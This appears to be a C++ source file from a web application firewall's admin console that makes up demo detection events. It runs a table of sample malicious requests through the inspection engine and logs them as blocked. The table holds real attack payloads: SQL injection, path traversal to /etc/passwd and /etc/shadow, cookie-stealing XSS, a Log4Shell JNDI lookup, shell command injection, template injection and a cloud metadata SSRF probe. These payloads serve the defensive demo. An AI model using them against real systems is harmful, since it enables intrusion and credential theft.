#include "app/console/demo/demo_hits.h"

#include "backend/audit/details.h"
#include "backend/audit/event_kinds.h"
#include "backend/protection/inspection/excerpt.h"
#include "backend/protection/inspection/inspection.h"

#include <array>

namespace sallyport::app {

namespace {

using protection::detection::Part;
using protection::detection::PartKind;

struct Try {
    const char* method;
    const char* pattern; ///< empty: there is no such route
    PartKind part;
    const char* bytes;
    const char* address;
    int person; ///< which account; -1: nobody that is known
};

// 203.0.113.0/24 and 198.51.100.0/24 are for documentation (RFC 5737): they belong to nobody.
constexpr std::array<Try, 14> tries{{
    {"GET", "/api/data", PartKind::Query, "q=%27%20UNION%20SELECT%20email,password%20FROM%20users%20--", "203.0.113.88", -1},
    {"POST", "/api/comments", PartKind::Json, R"({"content": "dose ' or 1=1 -- per day"})", "198.51.100.41", 3},
    {"GET", "", PartKind::Path, "/cgi-bin/..%2f..%2f..%2fetc%2fpasswd", "203.0.113.9", -1},
    {"GET", "/api/data", PartKind::Query, "q=1%20OR%201=1%20--", "203.0.113.88", -1},
    {"POST", "/api/comments", PartKind::Json, R"({"content": "<img src=x onerror=alert(document.cookie)>"})", "203.0.113.140",
     -1},
    {"POST", "/api/comments", PartKind::Json, R"({"content": "twice ' or '1'='1 a day"})", "198.51.100.17", 8},
    {"GET", "/api/data", PartKind::Query, "q=$%7Bjndi:ldap://203.0.113.7/a%7D", "203.0.113.7", -1},
    {"GET", "/api/data/{id}", PartKind::Path, "/api/data/..%2f..%2fwindows%2fwin.ini", "203.0.113.9", -1},
    {"POST", "/api/comments", PartKind::Json, R"({"content": "morning ' or 2=2 -- evening"})", "198.51.100.41", 3},
    {"GET", "/api/data", PartKind::Query, "q=;cat%20/etc/passwd", "203.0.113.140", -1},
    {"POST", "/api/data", PartKind::Json, R"({"title": "{{7*7}}{{config.items()}}"})", "203.0.113.140", -1},
    {"GET", "/api/data", PartKind::Query, "q=%3Cscript%3Ealert(1)%3C/script%3E", "203.0.113.88", -1},
    {"POST", "/api/data", PartKind::Json, R"({"body": "see http://169.254.169.254/latest/meta-data/"})", "198.51.100.52", 11},
    {"GET", "", PartKind::Path, "/../../../../etc/shadow", "203.0.113.9", -1},
}};

} // namespace

void makeDemoHit(Services& services, const std::vector<DemoAccount>& accounts, std::size_t number)
{
    const Try& one = tries.at(number % tries.size());
    const Part part{one.part, {}, one.bytes};
    const protection::Judged judged = services.detectionRules.inspection()->inspect(one.method, one.pattern, {&part, 1});
    if (judged.fate == protection::Fate::Passes)
        return;
    protection::DetectionHit hit = hitOf(judged, {&part, 1});
    audit::Event event = access::eventBy(access::Actor{}, audit::kind::detectionBlocked, audit::Outcome::Blocked);
    if (one.person >= 0 && static_cast<std::size_t>(one.person) < accounts.size()) {
        const DemoAccount& account = accounts[static_cast<std::size_t>(one.person)];
        event.actor = {"user", account.id.text(), account.person.name, account.person.email};
        hit.whoKind = "user";
        hit.whoId = account.id.text();
        hit.who = account.person.name;
    } else {
        hit.whoKind = "anonymous";
    }
    const std::string_view path = one.part == PartKind::Path ? one.bytes : one.pattern;
    event.address = hit.address = one.address;
    event.method = hit.method = one.method;
    event.path = path;
    event.status = 403;
    event.reason = hit.rule;
    if (*one.pattern != 0)
        hit.route = std::string(one.method).append(" ").append(one.pattern);
    event.object = {"route", {}, hit.route};
    audit::Details details;
    details.text("class", protection::detection::classWord(hit.attackClass)).text("rule", hit.rule);
    details.text("part", protection::detection::partWord(hit.part)).text("member", hit.member);
    details.text("excerpt", excerptText(hit)).number("score", hit.score).number("threshold", hit.threshold);
    event.detailsJson = details.json();
    services.detectionRules.record(std::move(hit), std::move(event), [](const std::string&) {});
}

} // namespace sallyport::app
